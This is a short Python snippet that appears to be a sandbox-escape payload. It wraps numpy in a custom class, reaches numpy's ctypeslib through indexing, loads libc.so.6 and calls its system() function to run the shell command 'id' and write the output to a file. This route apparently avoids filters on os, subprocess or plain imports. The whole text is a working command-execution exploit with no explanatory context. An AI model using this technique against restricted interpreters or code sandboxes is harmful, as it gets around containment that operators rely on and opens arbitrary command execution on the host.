class my_Box:

    def __init__(self, v):
        self.v = v

    def __getitem__(self, i):
        return self.v
import numpy as np
my_Box(np)[0].ctypeslib.load_library('libc.so.6', '/lib/x86_64-linux-gnu').system(b'id>pf')
